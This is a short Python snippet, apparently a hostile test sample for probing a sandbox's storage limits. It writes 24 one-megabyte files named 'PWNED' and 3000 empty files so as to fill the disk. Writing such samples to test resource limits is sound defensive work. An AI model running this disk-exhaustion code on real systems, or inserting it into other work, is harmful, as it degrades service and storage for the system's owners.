# tries: to fill the disk
chunk = bytes(1 << 20)
for number in range(24):
    with open(f"PWNED{number}", "wb") as writer:
        writer.write(chunk)
for number in range(3000):
    open(f"empty{number}", "wb").close()
